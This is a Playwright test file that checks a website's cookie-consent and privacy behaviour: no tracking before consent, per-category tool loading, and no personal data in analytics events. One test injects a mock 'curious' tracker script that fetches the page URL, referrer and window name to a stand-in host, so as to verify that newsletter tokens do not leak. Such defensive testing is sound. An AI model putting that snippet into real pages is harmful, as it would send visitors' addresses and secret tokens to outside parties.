import type { Page } from '@playwright/test';
import { CONSENT_KEY, ESSENTIAL_ONLY, EVERYTHING } from '#domain/privacy/consent.ts';
import { pathTo } from '#domain/site/routes.ts';
import { words as simulatorWords } from '../simulator/simulator.page.ts';
import { sweep } from '../testing/sweep.ts';
import { open } from '../testing/watched-page.ts';
import trackers from '../trackers.json' with { type: 'json' };
import { beaconsOf, chosenBefore, SCRIPTED_PAGES } from './consent.page.ts';
import { CHAT, expect, HEATMAP, IDENTIFICATION, shell, test } from './tracked.page.ts';

const AUDIENCE = { analytics: true, marketing: false };
const NAMES = trackers.filter(({ id }) => !id.startsWith('YOUR')).map(({ name }) => name);

/** Reading to the end counts as an event where events are counted. */
async function scrollToEnd(page: Page): Promise<void> {
  await page.evaluate(async () => {
    scrollTo({ top: document.documentElement.scrollHeight, behavior: 'instant' });
    await new Promise((resolve) => {
      requestAnimationFrame(() => requestAnimationFrame(resolve));
    });
  });
}

for (const id of SCRIPTED_PAGES) {
  for (const [when, choice] of [
    ['before a choice', undefined],
    ['after a refusal', ESSENTIAL_ONLY],
  ] as const) {
    test(
      `P1, P22, P23, P25: nobody else hears of a visit to ${id} ${when}, and nothing is written`,
      sweep(id),
      async ({ page, context, tracked }) => {
        const setCookies: string[] = [];
        context.on('response', (response) => {
          if ('set-cookie' in response.headers()) setCookies.push(response.url());
        });
        if (choice) await chosenBefore(context, choice);
        const ready = tracked.ready();
        await open(page, pathTo(id, ''));
        await ready;
        await page.locator('h1').click({ force: true });
        await scrollToEnd(page);
        await tracked.events();
        // A beacon's text is kept a moment after it is sent.
        expect(await tracked.events()).toEqual([]);
        expect(setCookies).toEqual([]);
        expect(await context.cookies()).toEqual([]);
        const kept = await page.evaluate(async () => ({
          local: Object.keys(localStorage),
          session: Object.keys(sessionStorage),
          databases: (await indexedDB.databases()).length,
        }));
        expect(kept.local).toEqual(choice ? [CONSENT_KEY] : []);
        expect(kept.session.filter((key) => key !== 'react-router-scroll-positions')).toEqual([]);
        expect(kept.databases).toBe(0);
      },
    );
  }
}

for (const [analytics, marketing, tools, cookies] of [
  [false, false, [], []],
  [true, false, [HEATMAP], ['_thermo_visit']],
  [false, true, [IDENTIFICATION], ['_qui']],
  [true, true, [HEATMAP, IDENTIFICATION], ['_qui', '_thermo_visit']],
] as const) {
  test(`P9: analytics ${analytics}, marketing ${marketing}: exactly the tools of those kinds load`, async ({
    page,
    context,
    heard,
    tracked,
  }) => {
    tracked.expectTools({ analytics, marketing });
    const { customize, toggle, save } = await tracked.asked();
    await customize.click();
    await toggle('analytics').setChecked(analytics);
    await toggle('marketing').setChecked(marketing);
    await save.click();
    const scripts = () => heard.filter((url) => url === HEATMAP || url === IDENTIFICATION);
    await expect.poll(scripts).toEqual(tools);
    await expect(tracked.offer).toHaveCount(marketing ? 1 : 0);
    const footer = page.getByRole('contentinfo');
    await footer.getByRole('link', { name: shell.footer.pages.faq }).click();
    await expect(page).toHaveURL('/faq');
    const viewed = async () =>
      (await tracked.events()).filter(({ name }) => name === 'page_view').map((view) => view.page);
    await expect.poll(viewed).toEqual(analytics ? ['contact', 'faq'] : []);
    expect(scripts()).toEqual(tools);
    expect(heard.filter((url) => url === CHAT || url.includes('nobody'))).toEqual([]);
    const names = async () => (await context.cookies()).map(({ name }) => name).sort();
    await expect.poll(names).toEqual(cookies);
  });
}

test('P12: the pages on privacy name every configured tool, no other', async ({ page }) => {
  const main = page.getByRole('main');
  for (const [path, tools] of [
    ['/cookies', 'heat.tracker.example, frames.tracker.example'],
    ['/en/cookies', '_thermo*'],
    ['/confidentialite', 'Quivient Inc.'],
    ['/en/confidentialite', 'Quivient Inc.'],
  ] as const) {
    await page.goto(path);
    for (const text of [...NAMES, tools]) await expect(main).toContainText(text);
    await expect(main).not.toContainText('Nobody');
  }
});

test('P8: events carry their values, nothing of the visitor', async ({ page, tracked }) => {
  await tracked.openedWith(AUDIENCE, '/?email=ada@flotte.example');
  await expect.poll(tracked.events).toHaveLength(1);
  await page.getByRole('textbox', { name: shell.newsletter.email }).fill('ada@flotte.example');
  await scrollToEnd(page);
  const footer = page.getByRole('contentinfo');
  // The address changes before the page does: the next press waits for what it is pressed on.
  await footer.getByRole('link', { name: shell.footer.pages.fleets }).click();
  await tracked.seen('fleets');
  await footer.getByRole('link', { name: shell.footer.pages.simulator }).click();
  await tracked.seen('simulator');
  const { actions, board } = simulatorWords;
  await page.getByRole('button', { name: board.next.share }).click();
  const taken = page.waitForEvent('download');
  await page.getByRole('button', { name: actions.json }).click();
  await taken;
  await page.getByRole('banner').locator('a[data-cta]').click();
  await tracked.seen('contact');
  // Reaching for the footer scrolls the later pages too.
  const ofReading = async () =>
    (await tracked.events()).filter(
      ({ name, page: on }) => name !== 'scroll_depth' || on === 'home',
    );
  const on = (page: string, name: string, values: object = {}) => ({
    ...{ name, page, language: 'fr' },
    ...values,
  });
  await expect
    .poll(ofReading)
    .toEqual([
      on('home', 'page_view'),
      ...[25, 50, 75, 100].map((value) => on('home', 'scroll_depth', { value })),
      on('fleets', 'page_view'),
      on('fleets', 'solution_view', { value: 2 }),
      on('simulator', 'page_view'),
      on('simulator', 'simulator_view', { value: 1 }),
      on('simulator', 'resource_download', { value: 3 }),
      on('simulator', 'cta_click', { value: 1, target: 'contact' }),
      on('contact', 'page_view'),
    ]);
  expect(JSON.stringify(await beaconsOf(page))).not.toContain('ada');
});

test('where a blocker has taken the beacon, the page does without', async ({
  page,
  context,
  tracked,
}) => {
  await context.addInitScript(() => {
    Object.defineProperty(navigator, 'sendBeacon', { value: undefined });
  });
  await tracked.openedWith(AUDIENCE);
  await page.evaluate(() => dispatchEvent(new Event('pagehide')));
  await expect(page.locator('h1')).toBeVisible();
});

/** Sends every address it can read to its maker. */
const CURIOUS = `
  const [{ name }] = performance.getEntriesByType('navigation');
  for (const address of [location.href, document.referrer, name]) {
    fetch('https://heat.tracker.example/collect?at=' + encodeURIComponent(address), {
      mode: 'no-cors',
    });
  }`;

for (const id of ['newsletter-confirm', 'newsletter-unsubscribe'] as const) {
  test(`whatever was agreed to, no other maker learns the token in the address of ${id}`, async ({
    page,
    context,
    heard,
    tracked,
  }) => {
    const address = `${pathTo(id, '')}?token=b25lLXRpbWU`;
    const curious = { contentType: 'text/javascript', body: CURIOUS };
    await page.route(HEATMAP, (route) => route.fulfill(curious));
    await chosenBefore(context, EVERYTHING);
    await open(page, address);
    // What is agreed to starts all at once: the first event says that it has.
    await tracked.seen(id);
    await expect(tracked.offer).toHaveCount(0);

    // The address stays readable where the visitor goes from here, in this document and in the next.
    const footer = page.getByRole('contentinfo');
    await footer.getByRole('link', { name: shell.footer.pages.faq }).click();
    await tracked.seen('faq');
    await page.goto(address);
    await page.evaluate((path) => location.assign(path), pathTo('contact', ''));
    await page.waitForURL('/contact');
    await page.keyboard.press('Shift');
    await tracked.seen('contact');
    expect(heard).toEqual([]);
  });
}
